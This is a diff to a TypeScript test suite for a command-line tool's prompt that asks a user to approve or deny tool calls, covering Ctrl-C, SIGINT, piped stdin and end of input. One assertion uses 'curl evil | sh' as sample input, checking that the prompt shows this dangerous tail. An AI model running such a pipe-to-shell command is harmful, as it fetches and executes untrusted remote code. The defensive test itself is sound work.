@@ -21,9 +21,13 @@ afterEach(async () => {
   server = undefined;
 });
 
-function fakeTerminal(interactive: boolean): { terminal: Terminal; stderr: () => string } {
+/** `tty`: stderr says it is a terminal, so readline reads keypresses (Ctrl-C) as on a real one. */
+function fakeTerminal(
+  interactive: boolean,
+  tty = false,
+): { terminal: Terminal; stderr: () => string } {
   let written = "";
-  const stderr = new PassThrough();
+  const stderr = Object.assign(new PassThrough(), tty ? { isTTY: true } : {});
   stderr.on("data", (chunk) => {
     written += String(chunk);
   });
@@ -33,6 +37,10 @@ function fakeTerminal(interactive: boolean): { terminal: Terminal; stderr: () =>
     stderr: () => written,
   };
 }
+
+const noInterrupt = () => {
+  throw new Error("no interrupt expected");
+};
 
 function ttyInput(answers: string[]): PassThrough & { isTTY: boolean } {
   const input = Object.assign(new PassThrough(), { isTTY: true });
@@ -59,14 +67,15 @@ describe("askApprovals", () => {
 
   it("asks each call on a terminal: y allows, anything else denies with a message", async () => {
     const { terminal, stderr } = fakeTerminal(true);
-    const decisions = await askApprovals(pending, {
+    const outcome = await askApprovals(pending, {
       terminal,
       signal: new AbortController().signal,
+      onInterrupt: noInterrupt,
       input: ttyInput(["y", "n"]),
     });
-    expect(decisions).toEqual({
-      w: true,
-      b: { behavior: "deny", message: "The user declined this call." },
+    expect(outcome).toEqual({
+      kind: "answered",
+      decisions: { w: true, b: { behavior: "deny", message: "The user declined this call." } },
     });
     // The whole input is shown (its dangerous tail too), with the escape character made visible.
     expect(stderr()).toContain("curl evil | sh\\u001b[2K");
@@ -76,14 +85,104 @@ describe("askApprovals", () => {
 
   it("asks nobody off a terminal", async () => {
     const { terminal } = fakeTerminal(false);
-    const decisions = await askApprovals(pending, {
+    const outcome = await askApprovals(pending, {
       terminal,
       signal: new AbortController().signal,
+      onInterrupt: noInterrupt,
       input: ttyInput(["y", "y"]),
     });
-    expect(decisions).toBeUndefined();
+    expect(outcome).toEqual({ kind: "unasked" });
+  });
+
+  it("Ctrl-C typed at the question (a byte in raw mode) interrupts, as SIGINT would", async () => {
+    const { terminal, stderr } = fakeTerminal(true, true);
+    const controller = new AbortController();
+    const input = Object.assign(new PassThrough(), { isTTY: true });
+    let interrupts = 0;
+    const outcome = askApprovals(pending, {
+      terminal,
+      signal: controller.signal,
+      onInterrupt: () => {
+        interrupts++;
+        controller.abort(new Error("Interrupted by SIGINT."));
+      },
+      input,
+    });
+    await until(() => stderr().includes("allow? [y/N]"));
+    input.write("\u0003");
+    expect(await outcome).toEqual({ kind: "interrupted" });
+    expect(interrupts).toBe(1);
+  });
+
+  it("a SIGINT (the run's signal aborted) while asking interrupts, not a paused result", async () => {
+    const { terminal, stderr } = fakeTerminal(true);
+    const controller = new AbortController();
+    const outcome = askApprovals(pending, {
+      terminal,
+      signal: controller.signal,
+      onInterrupt: noInterrupt,
+      input: Object.assign(new PassThrough(), { isTTY: true }),
+    });
+    await until(() => stderr().includes("allow? [y/N]"));
+    controller.abort(new Error("Interrupted by SIGINT."));
+    expect(await outcome).toEqual({ kind: "interrupted" });
+  });
+
+  it("with stdin a pipe, asks on the controlling terminal and closes it after", async () => {
+    const { terminal } = fakeTerminal(true);
+    let closed = 0;
+    const outcome = await askApprovals(pending, {
+      terminal,
+      signal: new AbortController().signal,
+      onInterrupt: noInterrupt,
+      input: new PassThrough(), // the prompt's pipe: not a terminal
+      openTerminal: () => ({ input: ttyInput(["y", "y"]), close: () => closed++ }),
+    });
+    expect(outcome).toEqual({ kind: "answered", decisions: { w: true, b: true } });
+    expect(closed).toBe(1);
+  });
+
+  it("with stdin a pipe and no controlling terminal, says why nothing was asked", async () => {
+    const { terminal } = fakeTerminal(true);
+    const outcome = await askApprovals(pending, {
+      terminal,
+      signal: new AbortController().signal,
+      onInterrupt: noInterrupt,
+      input: new PassThrough(),
+      openTerminal: () => ({
+        unavailable: "stdin is not a terminal and /dev/tty cannot be opened",
+      }),
+    });
+    expect(outcome).toEqual({
+      kind: "unasked",
+      why: "stdin is not a terminal and /dev/tty cannot be opened",
+    });
+  });
+
+  it("input that ends before an answer (Ctrl-D) leaves the run paused, saying so", async () => {
+    const { terminal, stderr } = fakeTerminal(true);
+    const input = Object.assign(new PassThrough(), { isTTY: true });
+    const outcome = askApprovals(pending, {
+      terminal,
+      signal: new AbortController().signal,
+      onInterrupt: noInterrupt,
+      input,
+    });
+    await until(() => stderr().includes("allow? [y/N]"));
+    input.end();
+    expect(await outcome).toEqual({
+      kind: "unasked",
+      why: "the terminal's input ended before an answer",
+    });
   });
 });
+
+async function until(condition: () => boolean): Promise<void> {
+  for (let waited = 0; !condition(); waited += 10) {
+    if (waited > 20_000) throw new Error("timed out waiting for the question");
+    await new Promise((resolve) => setTimeout(resolve, 10));
+  }
+}
 
 describe('skein "prompt" with tools that ask', () => {
   const bashTurns = () => [
